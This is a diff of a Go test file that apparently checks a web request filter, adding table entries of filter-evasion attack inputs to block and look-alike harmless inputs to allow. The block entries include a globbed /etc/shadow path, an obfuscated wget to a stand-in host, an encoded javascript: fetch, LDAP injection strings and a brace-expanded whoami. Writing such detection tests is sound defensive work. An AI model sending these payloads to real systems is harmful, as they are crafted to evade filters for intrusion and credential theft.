@@ -105,6 +105,7 @@ var recallBlock = []struct {
 	{"etc file as a glob", query("file", "/etc/sh?dow")},
 	{"unset braced variable inside a command", query("host", "w${Z1}get evil.example/s")},
 	{"char reference in an unquoted javascript url", post("application/json", `{"bio":"<a href=jav&Tab;ascript&colon;fetch('//x.example')>me</a>"}`)},
+	{"command word from a brace expansion", query("x", "wh{o,e}ami")},
 	{"ldap or term after a close", query("uid", "bob)(|")},
 	{"ldap and term between terms", query("uid", "bob)&(mail=*")},
 	{"php session file as an upload name", withHeaders("X-File-Name", "sess_0f1e2d3c4b5a69788796a5b4c3")},
@@ -146,6 +147,8 @@ var recallBenign = []struct {
 	{"listing of a program directory", query("pattern", "/usr/bin/*")},
 	{"api route with a wildcard", query("route", "/api/v1/users/*")},
 	{"template variable ending a word", query("el", "id${n}")},
+	{"brace expansion in a backup command", query("q", "cp nginx.conf{,.bak}")},
+	{"rust use list", post("application/json", `{"code":"use std::{io,fs};"}`)},
 	{"function call chained", query("q", "connect(mapState)(App)")},
 	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
 }
